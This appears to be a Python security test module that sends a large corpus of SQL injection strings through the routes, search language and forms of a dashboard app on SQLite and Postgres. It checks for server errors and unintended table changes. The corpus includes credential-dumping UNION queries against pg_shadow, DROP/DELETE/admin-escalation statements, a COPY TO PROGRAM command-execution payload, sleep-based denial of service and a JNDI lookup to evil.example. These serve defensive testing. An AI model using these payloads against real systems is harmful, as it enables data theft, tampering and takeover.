"""Words of SQL through every parameter of every route and every argument of the search language, on both databases."""

from collections.abc import Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from itertools import product
from urllib.parse import quote

from benchmarks.postgres import Server
from monitor.errors import QueryError
from monitor.query.fields import FIELDS
from monitor.records.board.matches import MatchFilter
from monitor.understand import searching
from proof.nobody_world import OWN, Tally, World, world
from proof.promise import Figure, Scene
from tests.dashboard_builders import NOW
from tests.dashboard_doors import FORMS, Way

NONE = "zqxjvw"
"""A word that stands nowhere."""
TAUTOLOGIES = (
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR "1"="1',
    "') OR ('1'='1",
    "%' OR 1=1 --",
    "' OR TRUE #",
    "' UNION SELECT name, sql, 1 FROM sqlite_master --",
    "' UNION ALL SELECT NULL, NULL, NULL --",
    "' UNION SELECT usename, passwd, 1 FROM pg_shadow --",
    "1 OR 1=1",
    "\\' OR 1=1 --",
    "%27%20OR%201=1%20--",
    "' || (SELECT password_hash FROM accounts LIMIT 1) || '",
    "%",
    "_" * 6,
)
DESTRUCTIVE = (
    "'; DROP TABLE articles; --",
    "1; DELETE FROM accounts",
    "'); DELETE FROM saved_views; --",
    "'; UPDATE accounts SET role='admin'; --",
    "'; INSERT INTO accounts VALUES (99); --",
    "'; ATTACH DATABASE '/tmp/owned.db' AS owned; --",
    "'; COPY articles TO PROGRAM 'touch /tmp/owned'; --",
    "'; PRAGMA writable_schema=1; --",
    "'; SELECT pg_sleep(30); --",
    "' AND 1=(SELECT 1 FROM pg_sleep(30)) --",
    "' AND randomblob(1000000000) --",
    "load_extension('x')",
)
ODD = (
    "'",
    '"',
    "''",
    "\\",
    "`",
    ";",
    "--",
    "/*",
    "*/",
    "\x00",
    "a\x00b",
    "\ud800",
    "\uffff",
    "\u02bc OR 1=1",
    "\uff07 OR 1=1",
    ":name",
    "%(name)s",
    "%s",
    "?",
    "$1",
    "{0}",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "{%raw%}",
    "NaN",
    "Infinity",
    "-1",
    "0x7f",
    "1e309",
    str(2**31),
    str(2**63),
    str(-(2**63) - 1),
    str(2**200),
    "9" * 5000,
    "0000-00-00",
    "9999-12-31",
    "2025-02-30",
    "true",
    "null",
    "[]",
    '{"$gt": ""}',
    "a" * 1999,
    "(" * 500,
    "\u202e",
    "NEAR(a b)",
    "a* OR b*",
    "^a",
    "title:a",
    "a:b:c",
    '"unclosed',
    "AND",
    "NOT NOT NOT",
)
CORPUS = (*TAUTOLOGIES, *DESTRUCTIVE, *ODD)
# Parameters that narrow a list by a text: of a word that stands nowhere they find nothing, whatever SQL is behind it.
NARROWING = frozenset({"outlet", "who", "speaker", "about", "name", "text"})


def on_sqlite(scene: Scene) -> Sequence[Figure]:
    """Everything on SQLite."""
    with world(scene.folder) as here:
        return tuple(_tried(scene, here, "SQLite"))


def on_postgres(scene: Scene) -> Sequence[Figure]:
    """Everything on Postgres."""
    with Server() as server, world(scene.folder, url=server.new()) as here:
        return tuple(_tried(scene, here, "Postgres"))


def _tried(scene: Scene, here: World, name: str) -> Iterator[Figure]:
    answers, more, before = Tally(), Tally(), here.rows()
    given = list(_requests(here))
    chosen = [each for n, each in enumerate(given) if n * scene.share % 1 < scene.share]
    with here.client("Ada", **OWN) as client, ThreadPoolExecutor(4) as pool:

        def ask(request: tuple[Way, str, Mapping[str, str], str]) -> None:
            way, path, asked, told = request
            # A form that is as meant but for one field may change what it is for; so only what is read is sent whole.
            answer = client.get(path, params=asked)
            answers.expect(answer.status_code < 500, f"{told}: {answer.status_code} {answer.text[:80]}")
            if way.path.startswith("/api/") and set(asked) & NARROWING and next(iter(asked.values())).startswith(NONE):
                more.expect(_length(answer.json()) <= 0 if answer.status_code == 200 else True, told)

        for number, _ in enumerate(pool.map(ask, chosen)):
            scene.progress(number + 1, len(chosen), "requests")
    yield answers.figure(f"requests with SQL in a parameter that ended in a 5xx ({name})", "0")
    yield more.figure(f"lists that were longer for SQL behind a word that stands nowhere ({name})", "0")
    yield _searched(scene, here, name)
    unchanged = Tally()
    unchanged.expect(here.rows() == before, f"{here.rows()} was {before}")
    yield unchanged.figure(f"tables changed by reading ({name})", "0")
    yield _formed(scene, here, name)


def _requests(here: World) -> Iterator[tuple[Way, str, Mapping[str, str], str]]:
    for way in here.ways:
        if way.changes or way.path in {"/live", "/static/{version}/{name}"}:
            continue
        path = way.at(here.things)
        for name, words in product(way.queries, CORPUS):
            for given in (words, f"{NONE}{words}") if name in NARROWING and words in TAUTOLOGIES else (words,):
                yield way, path, {name: given.encode("utf-8", "replace").decode()}, f"{way.name} {name}={given[:60]!r}"
        for name in (part[1:-1] for part in way.path.split("/") if part.startswith("{") and part.endswith("}")):
            for words in CORPUS:
                there = quote(words.encode("utf-8", "replace"), safe="")
                yield way, way.at({**here.things, name: there}), {}, f"{way.name} {name}={words[:60]!r}"


def _length(view: object) -> int:
    """How many the list of the view holds: its rows are the first tuple in it."""
    assert isinstance(view, dict)
    return next((len(value) for value in view.values() if isinstance(value, list)), 0)


def _searched(scene: Scene, here: World, name: str) -> Figure:
    """Each argument of the search language, quoted and not, alone and behind others."""
    tally = Tally()
    shapes = ("{field}:{words}", '{field}:"{words}"', 'NOT {field}:"{words}"', "({field}:{words}) OR talks", "{words}")
    given = [(shape, field, words) for shape, field, words in product(shapes, FIELDS, CORPUS)]
    for shape, field, words in [each for n, each in enumerate(given) if n * scene.share % 1 < scene.share]:
        text = shape.format(field=field, words=words)
        told = f"{text[:80]!r}"
        try:
            asked = str(searching.read(text))
            here.store.board.matches.page(MatchFilter(search=asked), person="Ada", now=NOW, after=None)
        except QueryError:
            tally.expect(True, told)
        except Exception as error:  # noqa: BLE001 - whatever it is, it is what was looked for
            tally.expect(False, f"{told}: {type(error).__name__}: {error}")
        else:
            tally.expect(True, told)
    return tally.figure(f"searches that ended in anything but an answer or a word about the search ({name})", "0")


def _formed(scene: Scene, here: World, name: str) -> Figure:
    """Each field of each form: what is in the tables that the form is not for stays as it is."""
    tally = Tally()
    own = {"saved-views": {"saved_views"}, "articles": {"labels", "snoozes", "audit", "articles", "label_texts"}}
    corpus = CORPUS[:: max(1, round(1 / max(scene.share, 0.05)))]
    for way in here.ways:
        if not way.changes or way.path == "/sign-in":
            continue
        before = here.rows()
        with here.client("Ada", **OWN) as client:
            for field, words in product((*way.fields, "article_id", "number"), corpus):
                sent = {**FORMS[way.name], field: words.encode("utf-8", "replace").decode()}
                there = quote(words.encode("utf-8", "replace"), safe="")
                instead = {field: there} if f"{{{field}}}" in way.path else {}
                answer = client.post(way.at(here.things, **instead), data=sent)
                tally.expect(answer.status_code < 500, f"{way.name} {field}={words[:60]!r}: {answer.status_code}")
        changed = {table for table, rows in here.rows().items() if rows != before.get(table)}
        stray = changed - own.get(way.path.split("/")[1], set())
        tally.expect(not stray, f"{way.name} changed {stray}")
    return tally.figure(f"forms with SQL in a field that ended in a 5xx or wrote into another table ({name})", "0")
